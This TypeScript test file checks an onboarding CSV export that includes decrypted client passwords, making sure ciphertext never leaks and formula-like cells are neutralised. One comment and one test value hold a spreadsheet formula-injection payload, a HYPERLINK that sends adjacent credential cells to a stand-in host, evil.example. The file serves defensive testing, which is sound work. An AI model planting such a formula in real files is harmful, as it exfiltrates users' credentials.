// @vitest-environment node
import { toCsv } from '@/lib/csv';
import type { OnboardingSubmission } from '../api/onboarding-submission';
import { SUBMISSION_CSV_HEADER, submissionCsvFilename, submissionCsvRows } from './submission-csv';

const submission = (overrides: Partial<OnboardingSubmission> = {}): OnboardingSubmission => ({
  id: '00000000-0000-4000-8000-000000000001',
  full_name: 'Maria Lopez',
  email: 'maria@bistro.example.com',
  phone: '555-0100',
  best_time_to_contact: 'morning',
  domain_name: 'bistro.example.com',
  backend_login_url: 'https://bistro.example.com/wp-admin',
  backend_username: 'localboost',
  backend_password_ciphertext: 'A'.repeat(68),
  backend_password_key_id: '0123456789abcdef',
  created_at: '2025-01-05T15:07:00Z',
  status: 'new',
  archived_at: null,
  owner_id: null,
  first_touch_at: null,
  awaiting_first_touch: true,
  contact_id: null,
  source_utm_source: null,
  source_utm_medium: null,
  source_utm_campaign: null,
  source_referrer_host: null,
  source_landing_path: null,
  ...overrides,
});

describe('onboarding CSV export', () => {
  it('has the spec columns, then Status, and the dated file name', () => {
    expect(SUBMISSION_CSV_HEADER).toEqual([
      'Full Name',
      'Email',
      'Phone',
      'Best Time to Contact',
      'Domain Name',
      'Backend Login URL',
      'Backend Username',
      'Backend Password',
      'Created At',
      'Status',
    ]);
    expect(submissionCsvFilename(new Date(2025, 0, 5))).toBe('onboarding-submissions-2025-01-05.csv');
  });

  it('writes decrypted passwords, labels and dates, and blanks for missing values', () => {
    const rows = submissionCsvRows(
      [submission({ status: 'in_progress' }), submission({ id: 'b', best_time_to_contact: null, domain_name: null, backend_password_ciphertext: null, backend_password_key_id: null })],
      new Map([['00000000-0000-4000-8000-000000000001', 's3cr3t, "quoted"']]),
      'UTC',
    );
    expect(rows[1]).toEqual([
      'Maria Lopez',
      'maria@bistro.example.com',
      '555-0100',
      'Morning (9 AM - 12 PM)',
      'bistro.example.com',
      'https://bistro.example.com/wp-admin',
      'localboost',
      's3cr3t, "quoted"',
      'Jan 5, 2025, 3:07 PM',
      'In progress',
    ]);
    expect(rows[2]?.[3]).toBe('');
    expect(rows[2]?.[7]).toBe('');
  });

  it('never writes the ciphertext when a password could not be decrypted', () => {
    const rows = submissionCsvRows([submission()], new Map(), 'UTC');
    expect(rows[1]?.[7]).toBe('');
    expect(rows.flat()).not.toContain('A'.repeat(68));
  });

  // Issue 29 section 3: the public key ships in the bundle, so anyone can seal a "password" such as
  // =HYPERLINK("https://evil.example/?"&H3&H4,"open"); the export must not let a spreadsheet run it.
  it.each(['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?"&H3,"open")'])(
    'neutralises the password %j like every other cell, so no spreadsheet evaluates it',
    (password) => {
      const csv = toCsv(submissionCsvRows([submission()], new Map([[submission().id, password]]), 'UTC'));
      const cells = csv.split('\r\n')[1]!;
      expect(cells).toContain(`,"'${password.replaceAll('"', '""')}",`);
      expect(cells).not.toContain(`,"${password.replaceAll('"', '""')}",`);
    },
  );

  it('keeps other passwords exactly as typed, and neutralises what the public typed', () => {
    const csv = toCsv(
      submissionCsvRows(
        [submission({ full_name: '=cmd', backend_username: '@admin' })],
        new Map([['00000000-0000-4000-8000-000000000001', 'Pässwörd 🍝 "42"=']]),
        'UTC',
      ),
    );
    const row = csv.split('\r\n')[1]!;
    expect(row.startsWith(`"'=cmd",`)).toBe(true);
    expect(row).toContain(`"'@admin","Pässwörd 🍝 ""42""=","Jan 5, 2025, 3:07 PM"`);
  });

  it('quotes every cell and neutralises formulas through the shared CSV module', () => {
    const csv = toCsv(submissionCsvRows([submission({ full_name: '=HYPERLINK("x")' })], new Map(), 'UTC'));
    expect(csv).toContain(`"'=HYPERLINK(""x"")"`);
    expect(csv.split('\r\n')[0]).toBe('\uFEFF"Full Name","Email","Phone","Best Time to Contact","Domain Name","Backend Login URL","Backend Username","Backend Password","Created At","Status"');
  });
});
